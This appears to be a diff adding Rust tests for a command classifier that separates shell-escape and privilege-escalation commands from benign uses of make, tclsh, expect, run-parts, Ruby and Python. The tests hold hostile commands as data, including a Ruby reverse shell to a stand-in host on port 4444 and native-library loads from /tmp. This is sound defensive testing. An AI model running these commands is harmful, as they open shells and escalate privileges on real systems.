@@ -1,0 +1,52 @@
+//! Shells reached through programs that run other programs, and native code
+//! loaded by interpreters: each next to the ordinary use of the same program.
+
+use super::tests_support::{attack, flows};
+use super::Effect;
+
+#[test]
+fn a_shell_in_a_string_runs_even_after_a_flag_that_sets_shells_elsewhere() {
+    attack("make -s --eval=$'x:\\n\\t-'\"/bin/sh\"", Effect::Shell);
+    flows("make -s -j4 test");
+    flows("chsh -s /bin/zsh");
+}
+
+#[test]
+fn tcl_channel_redirects_are_the_terminal() {
+    attack(
+        "tclsh <<< 'exec /bin/sh <@stdin >@stdout 2>@stderr'",
+        Effect::Shell,
+    );
+    attack("expect -c 'spawn /bin/sh; interact'", Effect::Shell);
+    flows("tclsh <<< 'puts [expr 6*7]'");
+}
+
+#[test]
+fn run_parts_over_system_programs_runs_a_shell() {
+    attack("run-parts --new-session --regex '^sh$' /bin", Effect::Shell);
+    attack("run-parts --regex '^bash$' /usr/bin/", Effect::Shell);
+    flows("run-parts --test /etc/cron.daily");
+}
+
+#[test]
+fn socket_code_handing_lines_to_popen_is_a_reverse_shell() {
+    attack(
+        "ruby -rsocket -e 'c=TCPSocket.new(\"203.0.113.9\",\"4444\");loop{IO.popen(c.gets,\"r\"){|io|c.print io.read}}'",
+        Effect::Shell,
+    );
+    flows("ruby -e 'puts IO.popen([\"git\", \"status\"]).read'");
+}
+
+#[test]
+fn native_libraries_from_writable_places_are_privilege_escalation() {
+    attack(
+        "python3 -c 'import ctypes; ctypes.CDLL(\"/tmp/x.so\")'",
+        Effect::PrivilegeEscalation,
+    );
+    attack(
+        "ruby -e 'require \"fiddle\"; Fiddle.dlopen(\"./payload.so\")'",
+        Effect::PrivilegeEscalation,
+    );
+    flows("python3 -c 'import ctypes; print(ctypes.CDLL(\"libc.so.6\").getpid())'");
+    flows("python3 -c 'import ctypes.util; print(ctypes.util.find_library(\"ssl\"))'");
+}
